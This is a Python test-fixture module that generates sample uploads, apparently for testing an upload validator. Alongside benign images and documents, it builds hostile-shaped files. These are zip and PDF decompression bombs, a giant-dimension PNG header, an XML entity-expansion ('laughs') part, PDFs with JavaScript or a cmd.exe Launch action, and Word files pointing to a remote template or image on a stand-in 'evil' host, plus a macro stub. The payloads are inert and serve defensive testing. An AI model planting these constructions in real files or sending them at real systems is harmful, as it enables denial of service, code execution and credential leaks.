"""Files for the table of uploads, made by code: each function is named as the table names the file."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pillow_heif
from PIL import Image

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def picture(kind: str, width: int = 40, height: int = 20, mode: str = "RGB", **save) -> bytes:
    if kind == "HEIF":
        pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    Image.new(mode, (width, height)).save(buffer, kind, **save)
    return buffer.getvalue()


def located(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = "Camera"
    exif[0x0132] = "2026:11:27 08:00:00"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(kind, exif=exif.tobytes() if kind == "HEIF" else exif)


def archive(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def relations(*rows: tuple[str, str, str]) -> str:
    """A part of relationships: (last word of the type or the whole type, target, mode)."""
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{kind if ":" in kind else f"{OFFICE}/{kind}"}" '
        f'Target="{target}"{f""" TargetMode="{mode}" """ if mode else ""}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{inside}</Relationships>'


def types(main: str = WORD_MAIN, *more: tuple[str, str]) -> str:
    inside = "".join(
        f'<Override PartName="{part}" ContentType="{kind}"/>'
        for part, kind in (("/word/document.xml", main), *more)
    )
    return f'<?xml version="1.0"?><Types xmlns="{TYPES}">{inside}</Types>'


def document(parts: dict[str, bytes | str] | None = None, main: str = WORD_MAIN, inside=()) -> bytes:
    return archive(
        {
            "[Content_Types].xml": types(main),
            "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
            "word/document.xml": "<w>八月未发</w>",
            "word/_rels/document.xml.rels": relations(*inside),
            **(parts or {}),
        }
    )


def workbook() -> bytes:
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def pdf(inside: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\n%%EOF\n"


def stream(text: bytes, about: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(text)
    return pdf() + b"2 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        about,
        len(packed),
        packed,
    )


def brand(name: bytes, *others: bytes) -> bytes:
    inside = name + b"\0\0\0\0" + b"".join(others)
    return struct.pack(">I", len(inside) + 8) + b"ftyp" + inside + b"\0\0\0\x08mdat"


def many_parts(count: int) -> bytes:
    parts: dict[str, bytes | str] = {f"word/{number}.xml": b"" for number in range(count)}
    return document(parts)


def lying_directory() -> bytes:
    """A part that unpacks to a hundred times what the directory says."""
    content = bytearray(document({"word/media/image.bin": b"\0" * 20_000_000}))
    true, said = struct.pack("<I", 20_000_000), struct.pack("<I", 200_000)
    return bytes(content.replace(true, said))


def locked() -> bytes:
    content = bytearray(document())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        content[place + at] |= 1
    return bytes(content)


def twice_named() -> bytes:
    return document({"WORD/document.xml": "<w>another</w>"})


def huge_header() -> bytes:
    """A PNG of 100,000 × 100,000 in a hundred bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + content))
        return struct.pack(">I", len(content)) + name + content + check

    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 99))
        + chunk(b"IEND", b"")
    )


MACRO_PARTS = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Sub AutoOpen"}
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f'<Relationships xmlns="{RELS}">&b;</Relationships>'
)

MADE = {
    "photo": lambda: picture("JPEG"),
    "photo with place": lambda: located("JPEG"),
    "photo of 15 megapixels in CMYK": lambda: picture("JPEG", 5000, 3000, "CMYK"),
    "photo of 48 megapixels": lambda: picture("JPEG", 8064, 6048),
    "photo of 64 megapixels": lambda: picture("JPEG", 9248, 6936),
    "photo of 90 megapixels": lambda: picture("JPEG", 10_000, 9000),
    "photo of an iPhone": lambda: located("HEIF"),
    "screenshot": lambda: picture("PNG"),
    "long screenshot": lambda: picture("PNG", 1080, 20_000),
    "drawing of 30 megapixels": lambda: picture("PNG", 6000, 5000, "1"),
    "webp": lambda: picture("WEBP"),
    "webp of 64 megapixels": lambda: picture("WEBP", 9200, 6900, quality=1, method=0),
    "half a photo": lambda: picture("JPEG", 400, 400)[:700],
    "half a photo of an iPhone": lambda: picture("HEIF", 640, 480)[:500],
    "png of ten thousand megapixels": huge_header,
    "pdf": pdf,
    "pdf with a script": lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf with a script in other letters": lambda: pdf(b"/OpenAction << /S /J#61vaScrip#74 /JS (1) >>"),
    "pdf with a packed script": lambda: stream(b"1 0 << /S /JavaScript /JS (1) >>"),
    "pdf that starts a program": lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf with a file inside": lambda: pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
    "pdf with a form in XML": lambda: pdf(b"/AcroForm << /XFA 3 0 R >>"),
    "locked pdf": lambda: pdf() + b"trailer << /Encrypt 9 0 R >>",
    "pdf that speaks of JavaScript": lambda: pdf(b"/Title (how to write JavaScript and Launch it)"),
    "pdf with a bomb": lambda: stream(b"\0" * 320_000_000),
    "pdf of 200,000 streams": lambda: pdf() + b"stream\n" * 200_000,
    "word": document,
    "word that never said how long": lambda: document({"word/note.xml": "x" * 3_000_000}),
    "word with a link": lambda: document(inside=[("hyperlink", "https://www.gov.cn/", "External")]),
    "word with a template elsewhere": lambda: document(
        {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://evil/t.dotm", "External"))}
    ),
    "word with a picture elsewhere": lambda: document(
        inside=[("image", "file://evil/share/a.png", "External")]
    ),
    "word with an object": lambda: document(
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        inside=[("oleObject", "embeddings/oleObject1.bin", "")],
    ),
    "word with a page of HTML": lambda: document({"word/x.html": "<p>"}, inside=[("aFChunk", "x.html", "")]),
    "word with macros": lambda: document(
        MACRO_PARTS,
        main=WORD_MACROS,
        inside=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", "")],
    ),
    "word with 30,000 openings": lambda: document({"_rels/.rels": "<Relationship " * 30_000}),
    "word with 30,000 deep": lambda: document({"_rels/.rels": "<a>" * 30_000 + "</a>" * 30_000}),
    "word with entities": lambda: document({"_rels/.rels": LAUGHS}),
    "word with relations of 3 MB": lambda: document({"_rels/.rels": " " * 3_000_000}),
    "word of 80,000 parts": lambda: many_parts(80_000),
    "word of 1,500 parts": lambda: many_parts(1_500),
    "word that names a part twice": twice_named,
    "locked word": locked,
    "word that lies about its size": lying_directory,
    "bomb": lambda: document(
        {"word/media/a.bin": b"\0" * 150_000_000, "word/media/b.bin": b"\0" * 60_000_000}
    ),
    "one part that shrinks too well": lambda: document({"word/media/a.bin": b"\0" * 30_000_000}),
    "excel": workbook,
    "archive of programs": lambda: archive({"a.exe": b"MZ"}),
    "half an archive": lambda: b"PK\x03\x04 not an archive",
    "old word": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "program": lambda: b"MZ" + b"\0" * 100,
    "page of HTML": lambda: b"<html><script>alert(1)</script>",
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "nothing": lambda: b"",
    "recording of an iPhone": lambda: brand(b"M4A ", b"M4A ", b"mp42", b"isom"),
    "recording wav": lambda: b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0" + b"\0" * 40,
    "recording mp3": lambda: b"ID3\x04\0\0\0\0\0\0" + b"\0" * 60,
    "recording amr": lambda: b"#!AMR\n" + b"\0" * 50,
    "video": lambda: brand(b"isom", b"isom", b"mp42"),
    "video of an iPhone": lambda: brand(b"qt  ", b"qt  "),
    "picture in another's clothes": lambda: b"\xff\xd8\xff\xe0" + picture("PNG"),
}
